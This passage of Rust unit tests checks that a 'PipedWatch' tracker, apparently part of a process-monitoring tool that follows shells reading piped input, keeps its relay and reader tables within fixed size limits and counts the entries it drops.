        w.relay_reader(key(99), "/usr/bin/sh".into(), "pipe", parent, t0 + WINDOW + Duration::from_secs(1));
        assert_eq!(w.relays[&7].len(), 1);
        assert_eq!(w.relay_connected(parent, t0 + WINDOW + Duration::from_secs(1)).len(), 1);
        // The same for readers waiting for a sibling.
        for r in 0..MAX_READERS_PER_PARENT as u32 + 1 {
            w.reader(key(r + 1000), "/usr/bin/sh".into(), 8, t0);
        }
        assert_eq!(w.readers[&8].len(), MAX_READERS_PER_PARENT);
        assert_eq!(w.forgotten, 11);
    }

    #[test]
    fn relay_readers_are_bounded() {
        let t0 = Instant::now();
        let mut w = PipedWatch::default();
        for p in 1..=2 * MAX_PARENTS as u32 {
            w.relay_reader(key(p + 100_000), "/usr/bin/sh".into(), "pipe", key(p), t0);
        }
        assert!(w.relays.len() <= MAX_PARENTS, "{}", w.relays.len());
        assert_eq!(w.forgotten, MAX_PARENTS as u64);
    }
}
